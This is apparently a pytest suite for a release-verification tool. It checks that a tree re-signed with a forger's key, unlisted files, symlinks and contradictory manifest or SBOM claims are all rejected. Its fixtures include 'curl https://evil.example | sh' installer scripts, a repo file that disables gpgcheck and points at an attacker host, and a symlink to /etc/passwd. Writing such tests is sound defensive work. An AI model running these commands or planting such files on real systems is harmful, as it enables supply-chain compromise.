"""What `--verify` and the gate trust: keys pinned outside the tree (a run's own, a `--trust-key` file, the
user's keyring, the development key, a rotation's previous fingerprint), never the tree's own key file; every
file of the tree accounted for by the signed SHA256SUMS; a manifest entry of no repository of the layout never
vouched for; the SBOM and the manifest held to the packages and the signed statements. Each attack is made
as an attacker who can write a mirror would make it, with the real tools (the tool itself re-making the whole
release with another key, among them)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from altai_release.core.errors import SigningError
from altai_release.rpm.manifest import MANIFEST_NAME, ManifestEntry
from altai_release.signing.assignment import KeyResolver
from altai_release.signing.signature_check import KeyDatabases
from altai_release.signing.trust import TrustSources
from unitlib import LAYOUT, SBOM, seal, signed_tree, tree_failures, trusting


@pytest.fixture(scope="module")
def trees(tmp_path_factory: pytest.TempPathFactory, releases):
    """The genuine release, signed by its key, and the same release re-made whole with the forger's key."""
    made = {}
    identities = []
    try:
        for who in ("genuine", "forger"):
            work = tmp_path_factory.mktemp(who)
            identity = KeyResolver(state_dir=work / "state", gnupghome=work / "none").resolve(LAYOUT.keys["altai"])
            identities.append(identity)
            tree, manifest, public = signed_tree(work, releases["1.1"], identity)
            made[who] = (tree, manifest, public, identity, work / "state")
        yield made
    finally:
        for identity in identities:
            identity.keyring.stop_agent()


@pytest.fixture(scope="module")
def rpmdbs(tmp_path_factory: pytest.TempPathFactory) -> KeyDatabases:
    return KeyDatabases(tmp_path_factory.mktemp("rpmdbs"))


def hard_copy(tree: Path, target: Path) -> Path:
    """A copy whose files are hard links to the tree's: a change replaces a file, never writes through."""
    shutil.copytree(tree, target, copy_function=os.link)
    return target


def rewrite(path: Path, data: bytes) -> None:
    path.unlink()
    path.write_bytes(data)


def genuine_trust(trees) -> TrustSources:
    _tree, _manifest, public, identity, _state = trees["genuine"]
    return trusting(identity, public)


def test_the_genuine_release_passes_against_its_pinned_key(trees, rpmdbs, tmp_path):
    tree, manifest, *_ = trees["genuine"]
    assert tree_failures(tree, manifest, tmp_path, rpmdbs, genuine_trust(trees)) == {}


def test_a_release_remade_whole_with_another_key_fails_naming_both_fingerprints(trees, rpmdbs, tmp_path):
    forged, manifest, _public, forger, _state = trees["forger"]
    genuine = trees["genuine"][3]
    found = tree_failures(forged, manifest, tmp_path, rpmdbs, genuine_trust(trees))
    assert genuine.fingerprint in found["RPM-GPG-KEY-altai"]
    assert forger.fingerprint in found["RPM-GPG-KEY-altai"]
    for entry in manifest.entries:
        assert found[entry.path].startswith(f"bad signature: signed by key {forger.fingerprint[-16:]}"), entry.path
        assert genuine.fingerprint in found[entry.path]
    assert found["SHA256SUMS"].startswith("bad signature by the pinned metadata key")
    assert found["centos6/repodata/repomd.xml"].startswith("bad signature: not by the pinned key altai")
    statement = next(p for p in found if p.startswith("metadata/provenance/"))
    assert found[statement].startswith("bad signature: not by the pinned key altai")


def test_the_genuine_key_beside_the_forgers_in_the_key_file_is_a_fail(trees, rpmdbs, tmp_path):
    tree, manifest, public, *_ = trees["genuine"]
    forger = trees["forger"]
    copy = hard_copy(tree, tmp_path / "two-keys")
    rewrite(copy / "RPM-GPG-KEY-altai", public + forger[2])
    found = tree_failures(copy, manifest, tmp_path / "w", rpmdbs, genuine_trust(trees))
    assert found["RPM-GPG-KEY-altai"].startswith(f"holds {forger[3].fingerprint}, not the pinned key altai")


@pytest.mark.parametrize(
    ("change", "named", "said"),
    [
        ("altai.repo", "altai.repo", "its SHA-256 differs from the signed SHA256SUMS"),
        ("index.html", "index.html", "its SHA-256 differs from the signed SHA256SUMS"),
        ("RELEASE-NOTES.md", "RELEASE-NOTES.md", "its SHA-256 differs from the signed SHA256SUMS"),
        ("metadata/composeinfo.json", "metadata/composeinfo.json", "its SHA-256 differs"),
        ("install.sh", "install.sh", "a file SHA256SUMS does not list"),
        ("logs/tool/evil.sh", "logs/tool/evil.sh", "a file SHA256SUMS does not list"),
        ("RPM-GPG-KEY-other", "RPM-GPG-KEY-other", "a file SHA256SUMS does not list"),
        ("deps/evil/evil-1-1.noarch.rpm", "deps/evil", "a directory SHA256SUMS does not account for"),
        ("empty/", "empty", "a directory SHA256SUMS does not account for"),
        ("link", "link", "a symbolic link SHA256SUMS does not account for"),
        ("SHA256SUMS", "SHA256SUMS", "bad signature by the pinned metadata key"),
    ],
)
def test_every_file_of_the_tree_is_accounted_for(trees, rpmdbs, tmp_path, change, named, said):
    tree, manifest, *_ = trees["genuine"]
    copy = hard_copy(tree, tmp_path / "changed")
    target = copy / change
    if change == "link":
        os.symlink("/etc/passwd", target)
    elif change.endswith("/"):
        target.mkdir()
    elif target.exists():
        rewrite(target, b"[altai]\nbaseurl=https://evil.example/\ngpgcheck=0\nrepo_gpgcheck=0\n")
    else:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
    found = tree_failures(copy, manifest, tmp_path / "w", rpmdbs, genuine_trust(trees))
    assert found[named].startswith(said), found


def test_an_entry_of_a_repository_the_layout_does_not_define_is_not_vouched_for(trees, rpmdbs, tmp_path):
    tree, manifest, *_ = trees["genuine"]
    copy = hard_copy(tree, tmp_path / "evil")
    (copy / "evil").mkdir()
    (copy / "evil" / "backdoor-1-1.el6.noarch.rpm").write_text("#!/bin/sh\nid\n")
    sha = "0" * 64
    evil = ManifestEntry(
        "evil",
        "evil/backdoor-1-1.el6.noarch.rpm",
        "upstream:evil",
        "backdoor",
        None,
        "1",
        "1.el6",
        "noarch",
        sha,
        sha,
        "altai",
        "",
    )
    found = tree_failures(
        copy, replace(manifest, entries=[*manifest.entries, evil]), tmp_path / "w", rpmdbs, genuine_trust(trees)
    )
    assert found[evil.path].startswith("in repository 'evil', which the layout does not define")


def test_claims_the_signed_statements_contradict_are_named_even_when_resealed(trees, rpmdbs, tmp_path):
    """A manifest and SBOM re-sealed by the release key itself (a tool's mistake, or a key holder's) still
    have to say what the packages and the signed provenance say."""
    tree, manifest, _public, identity, _state = trees["genuine"]
    binary = next(e for e in manifest.entries if e.arch != "src")
    srpm = next(e for e in manifest.entries if e.arch == "src")
    other_commit = {**(srpm.source or {}), "commit": "d" * 40}
    forged = [replace(e, source=other_commit) if e is srpm else e for e in manifest.entries]
    forged = [replace(e, origin="other", source=other_commit) if e is binary else e for e in forged]
    copy = hard_copy(tree, tmp_path / "claims")
    sbom = json.loads((copy / SBOM).read_text())
    sbom["components"][0]["licenses"] = [{"license": {"id": "MIT"}}]
    rewrite(copy / SBOM, json.dumps(sbom, indent=2).encode())
    seal(copy, identity)
    found = tree_failures(copy, replace(manifest, entries=forged), tmp_path / "w", rpmdbs, genuine_trust(trees))
    statement = f"metadata/provenance/{Path(binary.path).name}.intoto.jsonl"
    assert found[statement].startswith(f"{MANIFEST_NAME} says another predicate.buildDefinition")
    assert "licenses than the release's package and manifest" in found[SBOM]
    keyid = [replace(e, signer_keyid="0123456789abcdef") if e is binary else e for e in manifest.entries]
    found = tree_failures(copy, replace(manifest, entries=keyid), tmp_path / "w2", rpmdbs, genuine_trust(trees))
    assert found[binary.path].startswith(f"does not agree with {MANIFEST_NAME}: it says key altai 0123456789abcdef")


def test_no_key_to_pin_is_one_error_that_names_trust_key(trees, rpmdbs, tmp_path):
    tree, manifest, *_ = trees["genuine"]
    nothing = TrustSources(gnupghome=tmp_path / "empty-home", state_dir=tmp_path / "no-state")
    with pytest.raises(SigningError, match=r"no key to trust for 'altai': .* --trust-key FILE"):
        tree_failures(tree, manifest, tmp_path / "w", rpmdbs, nothing)


def test_a_trust_key_file_the_users_keyring_and_the_development_key_pin_the_key(trees, rpmdbs, tmp_path):
    tree, manifest, public, identity, state = trees["genuine"]
    key_file = tmp_path / "altai.asc"
    key_file.write_bytes(public)
    from_file = TrustSources(trust_files=(key_file,))
    assert tree_failures(tree, manifest, tmp_path / "w1", rpmdbs, from_file) == {}
    forged_file = tmp_path / "forger.asc"
    forged_file.write_bytes(trees["forger"][2])
    assert "RPM-GPG-KEY-altai" in tree_failures(tree, manifest, tmp_path / "w2", rpmdbs, TrustSources((forged_file,)))
    assert tree_failures(tree, manifest, tmp_path / "w3", rpmdbs, TrustSources(state_dir=state)) == {}
    home = tmp_path / "gnupg"
    home.mkdir(mode=0o700)
    subprocess.run(
        ["gpg", "--homedir", str(home), "--batch", "--import"], input=public, capture_output=True, check=True
    )
    pinned = TrustSources(gnupghome=home).pins(by_fingerprint(identity.fingerprint), tmp_path / "k").get("altai")
    assert pinned.fingerprints == (identity.fingerprint,)
    assert pinned.source == f"GNUPGHOME={home}"


def by_fingerprint(fingerprint: str, previous: tuple[str, ...] = ()):
    key = replace(LAYOUT.keys["altai"], id=fingerprint, development=False, previous=previous)
    return replace(LAYOUT, keys={**LAYOUT.keys, "altai": key})


def test_a_previous_key_named_in_the_layout_still_verifies_what_it_signed(trees, rpmdbs, tmp_path):
    """After a rotation to a new key (here the second fixture's), releases the old key signed still verify
    when the layout names its fingerprint as previous; its material may come from the tree: only that
    fingerprint is taken from it."""
    tree, manifest, _public, old, _state = trees["genuine"]
    new_public, new = trees["forger"][2], trees["forger"][3]
    home = tmp_path / "gnupg"
    home.mkdir(mode=0o700)
    subprocess.run(
        ["gpg", "--homedir", str(home), "--batch", "--import"], input=new_public, capture_output=True, check=True
    )
    rotated = by_fingerprint(new.fingerprint, previous=(old.fingerprint,))
    pinned = TrustSources(gnupghome=home).pins(rotated, tmp_path / "k1", tree).get("altai")
    assert pinned.fingerprints == (new.fingerprint, old.fingerprint)
    trust = TrustSources(gnupghome=home)
    assert tree_failures(tree, manifest, tmp_path / "w1", rpmdbs, trust, rotated) == {}
    found = tree_failures(tree, manifest, tmp_path / "w2", rpmdbs, trust, by_fingerprint(new.fingerprint))
    assert (
        found["RPM-GPG-KEY-altai"]
        == f"holds {old.fingerprint}, not the pinned key altai {new.fingerprint} (GNUPGHOME={home})"
    )


def test_accept_never_reads_a_manifest_through_a_link(trees, tmp_path):
    from altai_release.core.errors import InputError
    from altai_release.release.check.acceptance import accept

    tree = trees["genuine"][0]
    copy = hard_copy(tree, tmp_path / "linked")
    (copy / MANIFEST_NAME).unlink()
    (copy / MANIFEST_NAME).symlink_to(tree / MANIFEST_NAME)
    with pytest.raises(InputError, match=r"not a release tree \(manifest.json: manifest.json: a symbolic link"):
        accept(LAYOUT, copy, None)
